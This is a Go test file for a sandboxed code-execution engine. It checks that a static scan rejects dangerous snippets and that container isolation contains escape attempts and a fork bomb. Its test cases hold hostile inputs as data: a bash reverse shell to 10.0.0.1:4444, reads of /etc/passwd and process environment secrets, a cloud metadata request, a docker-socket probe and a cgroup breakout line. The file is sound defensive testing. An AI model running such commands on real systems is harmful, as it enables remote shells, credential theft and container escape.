package tests

import (
	"context"
	"strings"
	"testing"
	"time"

	"codegate/internal/engine"
)

// TestScanBlocksKnownConstructs verifies the pre-execution scan stops the
// usual suspects before any container exists. No runtime needed.
func TestScanBlocksKnownConstructs(t *testing.T) {
	e := engine.New(engine.NewUnavailableBackend(nil), nil, engine.Options{Workers: 1})
	defer e.Close()

	tests := []struct {
		name     string
		language string
		code     string
	}{
		{"subprocess spawn", "python", "import subprocess\nsubprocess.run(['cat', '/etc/passwd'])"},
		{"raw socket", "python", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)"},
		{"dynamic import", "python", "mod = __import__('os')\nmod.listdir('/')"},
		{"proc self escape", "bash", "cat /proc/self/environ"},
		{"docker socket", "bash", "ls -la /var/run/docker.sock"},
		{"cgroup breakout", "bash", "echo 1 > /sys/fs/cgroup/notify_on_release"},
		{"reverse shell", "bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
		{"metadata service", "python", "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/')"},
		{"node child_process", "node", "const cp = require('child_process'); cp.execSync('id')"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result, err := e.Submit(context.Background(), engine.Job{
				Source:   tt.code,
				Language: tt.language,
			})
			if err != nil {
				t.Fatalf("Submit: %v", err)
			}
			if result.Outcome != engine.OutcomeRejectedByScan {
				t.Errorf("Outcome = %s, want rejected-by-scan", result.Outcome)
			}
			if len(result.Findings) == 0 {
				t.Error("no findings on rejected submission")
			}
		})
	}
}

// TestEscapeAttempts runs snippets that pass the static scan but must be
// stopped by the container's isolation itself.
func TestEscapeAttempts(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping isolation tests in short mode")
	}
	e := newDockerEngine(t)

	tests := []struct {
		name string
		code string
		// the snippet itself reports BLOCKED when the isolation held
		wantBlocked bool
	}{
		{
			name: "no outbound network",
			code: `import urllib.request
try:
    urllib.request.urlopen('http://example.com', timeout=3)
    print('REACHED')
except Exception:
    print('BLOCKED')`,
			wantBlocked: true,
		},
		{
			name: "root filesystem readonly",
			code: `try:
    open('/usr/bin/evil', 'w').write('x')
    print('REACHED')
except OSError:
    print('BLOCKED')`,
			wantBlocked: true,
		},
		{
			name: "workspace mount readonly",
			code: `try:
    open('/workspace/extra.py', 'w').write('x')
    print('REACHED')
except OSError:
    print('BLOCKED')`,
			wantBlocked: true,
		},
		{
			name: "runs as unprivileged user",
			code: `import os
print('BLOCKED' if os.getuid() != 0 else 'REACHED')`,
			wantBlocked: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()

			result, err := e.Submit(ctx, engine.Job{
				Source:   tt.code,
				Language: "python",
			})
			if err != nil {
				t.Fatalf("Submit: %v", err)
			}
			if result.Outcome == engine.OutcomeRejectedByScan {
				t.Fatalf("snippet unexpectedly caught by static scan: %+v", result.Findings)
			}
			blocked := strings.Contains(result.Stdout, "BLOCKED")
			if blocked != tt.wantBlocked {
				t.Errorf("blocked = %v, want %v (stdout: %q, stderr: %q)",
					blocked, tt.wantBlocked, result.Stdout, result.Stderr)
			}
		})
	}
}

// TestForkBombContained verifies the pids limit stops runaway process
// creation without taking the host down.
func TestForkBombContained(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping isolation tests in short mode")
	}
	e := newDockerEngine(t)

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	limits := engine.DefaultLimits()
	limits.MaxWallClock = 10 * time.Second
	limits.PidsLimit = 20

	result, err := e.Submit(ctx, engine.Job{
		Source: `import multiprocessing
def spin():
    while True: pass
for i in range(1000):
    multiprocessing.Process(target=spin).start()`,
		Language: "python",
		Limits:   limits,
	})
	if err != nil {
		t.Fatalf("Submit: %v", err)
	}
	if result.Outcome == engine.OutcomeCompleted {
		t.Errorf("fork bomb completed cleanly, expected containment (exit %d)", result.ExitCode)
	}
}
